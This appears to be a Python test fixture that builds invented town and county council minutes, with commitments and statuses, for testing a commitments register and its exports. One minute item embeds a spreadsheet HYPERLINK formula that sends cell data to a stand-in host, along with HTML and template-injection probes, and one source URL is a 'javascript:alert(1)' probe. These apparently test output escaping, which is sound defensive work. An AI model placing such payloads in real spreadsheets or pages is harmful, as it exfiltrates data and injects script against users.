"""A small register over invented minutes, for the views and files: real documents and places, statuses as given."""

from __future__ import annotations

import atexit
import hashlib
import shutil
from dataclasses import replace
from datetime import UTC, date, datetime
from functools import cache
from pathlib import Path
from tempfile import mkdtemp
from typing import Any

from ingest.pipeline import take_apart
from ingest.reading import Reading
from models.embedding import HashingEmbedder
from qa.register.book import Register
from qa.register.entries import Amendment, Entry, Place, RecordState, Standing, Status
from store.catalogue import Catalogue
from store.commitments import Commitment, CommitmentClass, Delivery, Strength
from store.reviews import Review
from store.schema import Document, Source, Span
from ui.exports.lines import Line, lines

NOW = datetime(2025, 9, 20, 9, 30, tzinfo=UTC)
TOWN, COUNTY = "Nether Coombe Town Council", "Harrow Vale County Council"
ADDRESS = "https://democracy.nethercoombe.example/mgAi.aspx?ID=7&x=1"
APRIL = """4. Footbridge at Mill Lane

The Head of Highways undertook to send members the cost of the repair by 30 April 2025.

Councillor Ode offered to write to the drainage board about the culvert.

RESOLVED – That a report on winter gritting be brought to the next meeting.

5. Verges

=HYPERLINK("http://sink.example/?"&A1,"the Clerk said that she would look into <b>verges</b> & hedges, {{ 7*7 }}").
"""
JUNE = """3. Matters arising

Councillor Ode reported that he had written to the drainage board, and read out its reply.

The minutes were approved subject to an amendment: for “culvert” read “culverts”.
"""
SEPTEMBER = """3. Highways update

The gritting routes were discussed.
"""
HOUSING = """2. Empty homes

It was agreed that the Housing Manager would circulate the figures by 1 December 2025.
"""
PAPERS = {
    "2025-04-02-highways.txt": (TOWN, "Highways Committee", date(2025, 4, 2), ADDRESS, APRIL),
    "2025-06-04-highways.txt": (TOWN, "Highways Committee", date(2025, 6, 4), None, JUNE),
    "2025-09-03-highways.txt": (TOWN, "Highways Committee", date(2025, 9, 3), "javascript:alert(1)", SEPTEMBER),
    "2025-09-10-housing.txt": (COUNTY, "Housing Panel", date(2025, 9, 10), None, HOUSING),
}
COST = "The Head of Highways undertook to send members the cost of the repair by 30 April 2025."
LETTER = "Councillor Ode offered to write to the drainage board about the culvert."
GRITTING = "RESOLVED – That a report on winter gritting be brought to the next meeting."
VERGES = APRIL.split("5. Verges\n\n")[1].strip()
FIGURES = "It was agreed that the Housing Manager would circulate the figures by 1 December 2025."
WROTE = "Councillor Ode reported that he had written to the drainage board, and read out its reply."
AMENDED = "The minutes were approved subject to an amendment: for “culvert” read “culverts”."


def document(name: str) -> Document:
    """A paper taken apart, with nothing found in it."""
    council, committee, held_on, url, text = PAPERS[name]
    source = Source(
        name=name, sha256=name.encode().hex()[:64], council=council, committee=committee, held_on=held_on, url=url
    )
    return replace(take_apart(source, Reading(raw_text=text)), commitments=())


def span(of: Document, words: str, start: int = 0) -> Span:
    """Where the words stand."""
    at = of.raw_text.index(words, start)
    return Span(at, at + len(words))


def promise(of: Document, quote: str, deliverable: str, **fields: Any) -> Commitment:
    """A commitment quoted from the document; `owner`, `due`, `topic` are given as the words printed in it."""
    whole = span(of, quote)
    printed: dict[str, Any] = {
        name: span(of, fields.pop(name), whole.start) for name in ("owner", "due", "topic") if name in fields
    }
    item = next(item.ordinal for item in of.items if item.span.covers(whole))
    plain: dict[str, Any] = {
        "commitment_id": hashlib.blake2b(quote.encode(), digest_size=8).hexdigest(),
        "doc_id": of.source.doc_id,
        "item": item,
        "span": whole,
        "kind": CommitmentClass.OFFER,
        "strength": Strength.FIRM,
        "deliverable": span(of, deliverable, whole.start),
    }
    return Commitment(**(plain | printed | fields))


def papers() -> dict[str, Document]:
    """The invented papers with their commitments."""
    made = {name: document(name) for name in PAPERS}
    april, september = made["2025-04-02-highways.txt"], made["2025-09-10-housing.txt"]
    promised = (
        promise(
            april, COST, "send members the cost of the repair", owner="The Head of Highways", due="by 30 April 2025",
            due_on=date(2025, 4, 30), topic="the cost of the repair", delivery=Delivery.DATA,
        ),
        promise(april, LETTER, "write to the drainage board", owner="Councillor Ode", kind=CommitmentClass.MEMBER,
                delivery=Delivery.LETTER),
        promise(april, GRITTING, "a report on winter gritting", due="the next meeting", due_next_meeting=True,
                kind=CommitmentClass.RESOLVED, formal=True, delivery=Delivery.REPORT),
        promise(april, VERGES, "look into", owner="the Clerk", kind=CommitmentClass.SOFT, strength=Strength.SOFT,
                delivery=Delivery.INVESTIGATION),
    )  # fmt: skip
    agreed = promise(
        september, FIGURES, "circulate the figures", owner="the Housing Manager", due="by 1 December 2025",
        due_on=date(2025, 12, 1), kind=CommitmentClass.AGREED, delivery=Delivery.DATA,
    )  # fmt: skip
    made["2025-04-02-highways.txt"] = replace(april, commitments=promised)
    made["2025-09-10-housing.txt"] = replace(september, commitments=(agreed,))
    return made


@cache
def register() -> Register:
    """A real register over a real record of the papers."""
    root = Path(mkdtemp(prefix="matters-tests-"))
    atexit.register(shutil.rmtree, root, ignore_errors=True)
    record, embedder = Catalogue(root / "record.sqlite3", root), HashingEmbedder()
    record.note_model(embedder.fingerprint, embedder.dimensions)
    for name, paper in papers().items():
        vectors = embedder.passages([passage.text for passage in paper.passages])
        record.put(paper, vectors, folder="", fingerprint=name)
    return Register(record)


def entries() -> dict[str, Entry]:
    """The register's entries by their quotations, each standing as this module says."""
    made = {entry.document.quote(entry.commitment.span): entry for entry in register().entries}
    june = document("2025-06-04-highways.txt")
    wrote, amended = (Place(june.source.doc_id, span(june, words)) for words in (WROTE, AMENDED))
    town: dict[str, Any] = {"searched": made[COST].standing.searched, "as_of": date(2025, 9, 3)}
    told = {
        COST: Standing(status=Status.OVERDUE, **town),
        LETTER: Standing(status=Status.MET, evidence=(wrote,), on=date(2025, 6, 4), **town),
        GRITTING: Standing(status=Status.OPEN, **town),
        VERGES: Standing(status=Status.SILENT, **town),
        FIGURES: Standing(status=Status.OPEN, as_of=date(2025, 9, 10)),
    }
    stood = {quote: replace(made[quote], standing=standing) for quote, standing in told.items()}
    change = Amendment(struck=False, place=amended, on=date(2025, 6, 4))
    stood[LETTER] = replace(stood[LETTER], record_state=RecordState.AMENDED, amendment=change)
    return stood


def review(quote: str, **said: Any) -> Review:
    """A person's word on the entry of that quotation."""
    held = entries()[quote].commitment.commitment_id
    return Review(commitment_id=held, by="Tegan Rowe", at=datetime(2025, 9, 12, 10, 0, tzinfo=UTC), **said)


def told(*quotes: str, **changes: Any) -> tuple[Line, ...]:
    """The entries of these quotations (all for none) as lines, changed as given."""
    held = entries()
    return lines([replace(held[quote], **changes) for quote in quotes or held], register())


def line(quote: str, **changes: Any) -> Line:
    """One entry as a line."""
    (one,) = told(quote, **changes)
    return one
